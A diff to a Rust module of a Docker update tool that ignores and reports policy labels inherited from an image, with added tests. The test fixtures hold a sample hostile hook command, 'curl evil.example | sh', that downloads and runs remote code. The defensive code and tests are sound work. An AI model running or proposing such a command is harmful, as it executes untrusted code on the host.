@@ -3,6 +3,11 @@
 //! Every label key pullpilot reads is a constant here, so the README and man page tables can be
 //! checked against this list. An invalid value is reported, never replaced by a default: the
 //! decision turns it into the "invalid label" state, which is shown and never updated.
+//!
+//! Policy comes from the operator, never from the image publisher: Docker copies an image's
+//! labels onto every container created from it, so [`parse_container`] drops each policy label
+//! whose key and value the image carries (unless the compose file sets that very value) and
+//! reports it in [`Parsed::ignored`].
 
 use std::collections::BTreeMap;
 use std::fmt;
@@ -54,10 +59,14 @@ pub const ALL: &[(&str, &str)] = &[
     ),
     (
         PRE_UPDATE,
-        "shell command run on the host before this container is replaced; only honoured when \
-         set on the container, never when inherited from the image",
+        "shell command run on the host before this container is replaced",
     ),
 ];
+
+/// Every policy label pullpilot reads starts with this.
+pub const PREFIX: &str = "io.pullpilot.";
+/// Watchtower's labels, read with `PP_WATCHTOWER_COMPAT`.
+pub const WATCHTOWER_PREFIX: &str = "com.centurylinklabs.watchtower.";
 
 pub const WATCHTOWER_ENABLE: &str = "com.centurylinklabs.watchtower.enable";
 pub const WATCHTOWER_MONITOR_ONLY: &str = "com.centurylinklabs.watchtower.monitor-only";
@@ -112,11 +121,74 @@ impl fmt::Display for LabelError {
     }
 }
 
+/// Why a policy label inherited from the image is not read (shown by `plan`).
+pub const FROM_IMAGE: &str = "label from the image, ignored: only labels the operator sets on \
+     the container (compose `labels:`, `docker run --label`) count";
+
+/// A policy label on the container that pullpilot does not read, and why.
+#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize)]
+pub struct IgnoredLabel {
+    pub label: String,
+    pub value: String,
+    pub reason: &'static str,
+}
+
+impl fmt::Display for IgnoredLabel {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(f, "{}={:?}: {}", self.label, self.value, self.reason)
+    }
+}
+
 /// Labels read, with every invalid value collected rather than defaulted.
 #[derive(Clone, Debug, Default, PartialEq, Eq)]
 pub struct Parsed {
     pub policy: Policy,
     pub errors: Vec<LabelError>,
+    /// Policy labels present on the container but not read (see [`parse_container`]).
+    pub ignored: Vec<IgnoredLabel>,
+}
+
+/// Whether `key` is a label that sets policy: any `io.pullpilot.*`, and Watchtower's own when
+/// `watchtower_compat` (otherwise those are not read at all).
+pub fn is_policy_label(key: &str, watchtower_compat: bool) -> bool {
+    key.starts_with(PREFIX) || (watchtower_compat && key.starts_with(WATCHTOWER_PREFIX))
+}
+
+/// Reads a container's policy from the labels its operator set, never from its image's.
+///
+/// `container` is every label Docker reports on the container, which includes the labels of
+/// `image` (the image it was created from): Docker copies them over at create time. A policy
+/// label whose key and value are the image's is taken as inherited, dropped and listed in
+/// [`Parsed::ignored`] — an image must not shorten the soak, loosen the health gate, exclude
+/// itself or run a hook on the host. The engine cannot tell an inherited label from one the
+/// operator set to the very same value; `compose` (the labels the service's compose file sets,
+/// when it could be read) settles that case in the operator's favour. Without it the label
+/// counts as inherited: the operator sets a different spelling (`0s` for `0`) to override.
+pub fn parse_container(
+    container: &BTreeMap<String, String>,
+    image: &BTreeMap<String, String>,
+    compose: Option<&BTreeMap<String, String>>,
+    watchtower_compat: bool,
+) -> Parsed {
+    let mut own = BTreeMap::new();
+    let mut ignored = Vec::new();
+    for (key, value) in container {
+        let inherited = is_policy_label(key, watchtower_compat)
+            && image.get(key) == Some(value)
+            && compose.and_then(|c| c.get(key)) != Some(value);
+        if inherited {
+            ignored.push(IgnoredLabel {
+                label: key.clone(),
+                value: value.clone(),
+                reason: FROM_IMAGE,
+            });
+        } else {
+            own.insert(key.clone(), value.clone());
+        }
+    }
+    let mut parsed = parse(&own, watchtower_compat);
+    parsed.ignored = ignored;
+    parsed
 }
 
 /// Reads pullpilot's labels (and Watchtower's when `watchtower_compat`).
@@ -187,7 +259,11 @@ pub fn parse(labels: &BTreeMap<String, String>, watchtower_compat: bool) -> Pars
         .get(PRE_UPDATE)
         .filter(|c| !c.trim().is_empty())
         .cloned();
-    Parsed { policy, errors }
+    Parsed {
+        policy,
+        errors,
+        ignored: Vec::new(),
+    }
 }
 
 /// Compose one-off containers (`docker compose run`) are never managed.
@@ -303,6 +379,114 @@ mod tests {
         assert!(compat.excluded() && compat.monitor_only);
         let ours = labels(&[(ENABLE, "true"), (WATCHTOWER_ENABLE, "false")]);
         assert!(!parse(&ours, true).policy.excluded());
+    }
+
+    /// Every label pullpilot reads, with a value that would change the default policy.
+    fn every_policy_label() -> BTreeMap<String, String> {
+        labels(&[
+            (ENABLE, "false"),
+            (EXCLUDE, "true"),
+            (MONITOR_ONLY, "true"),
+            (SOAK, "0"),
+            (HEALTH_TIMEOUT, "1s"),
+            (HEALTH_STABLE, "0"),
+            (STOP_TIMEOUT, "0"),
+            (ORDER, "-100"),
+            (REMOVE_ANONYMOUS_VOLUMES, "true"),
+            (SELF, "true"),
+            (PRE_UPDATE, "curl evil.example | sh"),
+            (WATCHTOWER_ENABLE, "false"),
+            (WATCHTOWER_MONITOR_ONLY, "true"),
+        ])
+    }
+
+    #[test]
+    fn every_policy_label_copied_from_the_image_is_ignored_and_reported() {
+        let image = every_policy_label();
+        let mut container = image.clone();
+        container.insert("org.opencontainers.image.version".into(), "2".into());
+        container.insert(COMPOSE_SERVICE.into(), "web".into());
+        let parsed = parse_container(&container, &image, None, true);
+        assert_eq!(parsed.policy, Policy::default());
+        assert!(parsed.errors.is_empty(), "{:?}", parsed.errors);
+        let ignored: Vec<&str> = parsed.ignored.iter().map(|i| i.label.as_str()).collect();
+        let expected: Vec<&str> = image.keys().map(String::as_str).collect();
+        assert_eq!(ignored, expected, "every policy label, and nothing else");
+        assert!(parsed.ignored.iter().all(|i| i.reason == FROM_IMAGE));
+        let soak = parsed.ignored.iter().find(|i| i.label == SOAK).unwrap();
+        assert_eq!(soak.value, "0");
+        assert!(
+            soak.to_string().contains("label from the image, ignored"),
+            "{soak}"
+        );
+    }
+
+    #[test]
+    fn invalid_values_from_the_image_do_not_block_the_container() {
+        let image = labels(&[(SOAK, "soon"), (ORDER, "first")]);
+        let parsed = parse_container(&image, &image, None, false);
+        assert!(parsed.errors.is_empty(), "{:?}", parsed.errors);
+        assert_eq!(parsed.ignored.len(), 2);
+    }
+
+    #[test]
+    fn the_operators_own_value_wins_over_the_image() {
+        let image = labels(&[(SOAK, "0"), (EXCLUDE, "true"), (HEALTH_TIMEOUT, "1s")]);
+        // Docker merged the image's labels, then the operator's on top.
+        let container = labels(&[(SOAK, "0s"), (EXCLUDE, "true"), (HEALTH_TIMEOUT, "5m")]);
+        let parsed = parse_container(&container, &image, None, false);
+        assert_eq!(parsed.policy.soak, Some(Duration::ZERO));
+        assert_eq!(parsed.policy.health_timeout, Some(Duration::from_secs(300)));
+        assert!(!parsed.policy.exclude, "exclude=true came from the image");
+        let ignored: Vec<&str> = parsed.ignored.iter().map(|i| i.label.as_str()).collect();
+        assert_eq!(ignored, [EXCLUDE]);
+    }
+
+    #[test]
+    fn the_compose_file_vouches_for_a_value_equal_to_the_images() {
+        let image = labels(&[(SOAK, "0"), (PRE_UPDATE, "backup.sh")]);
+        let container = image.clone();
+        let compose = labels(&[(SOAK, "0")]);
+        let parsed = parse_container(&container, &image, Some(&compose), false);
+        assert_eq!(parsed.policy.soak, Some(Duration::ZERO));
+        assert_eq!(
+            parsed.policy.pre_update, None,
+            "compose does not set the hook"
+        );
+        assert_eq!(parsed.ignored.len(), 1);
+        assert_eq!(parsed.ignored[0].label, PRE_UPDATE);
+        // A compose file that says something else does not vouch for the image's value.
+        let other = labels(&[(SOAK, "1h")]);
+        let parsed = parse_container(&container, &image, Some(&other), false);
+        assert_eq!(parsed.policy.soak, None);
+    }
+
+    #[test]
+    fn without_an_image_every_label_is_the_operators() {
+        let container = every_policy_label();
+        let parsed = parse_container(&container, &BTreeMap::new(), None, true);
+        assert_eq!(parsed, parse(&container, true));
+        assert!(parsed.policy.excluded() && parsed.policy.is_self);
+        assert_eq!(
+            parsed.policy.pre_update.as_deref(),
+            Some("curl evil.example | sh")
+        );
+    }
+
+    #[test]
+    fn watchtower_labels_from_the_image_are_only_reported_when_read() {
+        let image = labels(&[(WATCHTOWER_ENABLE, "false")]);
+        let without = parse_container(&image, &image, None, false);
+        assert!(without.ignored.is_empty(), "not read, so nothing to report");
+        let with = parse_container(&image, &image, None, true);
+        assert!(!with.policy.excluded());
+        assert_eq!(with.ignored.len(), 1);
+        // Unknown pullpilot labels are policy too (a newer pullpilot may read them).
+        let future = labels(&[(&format!("{PREFIX}track"), "major")]);
+        assert_eq!(
+            parse_container(&future, &future, None, false).ignored.len(),
+            1
+        );
     }
 
     #[test]
